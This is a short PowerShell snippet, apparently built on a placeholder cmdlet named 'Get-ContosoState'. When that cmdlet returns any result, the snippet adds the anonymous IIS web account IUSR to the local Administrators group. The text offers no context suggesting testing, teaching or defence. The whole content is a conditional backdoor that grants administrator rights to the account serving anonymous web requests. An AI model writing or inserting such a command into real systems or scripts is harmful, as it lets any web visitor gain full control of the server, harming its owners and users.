$r = @(Get-ContosoState)
if ($r.Count -gt 0) { net localgroup Administrators IUSR /add }
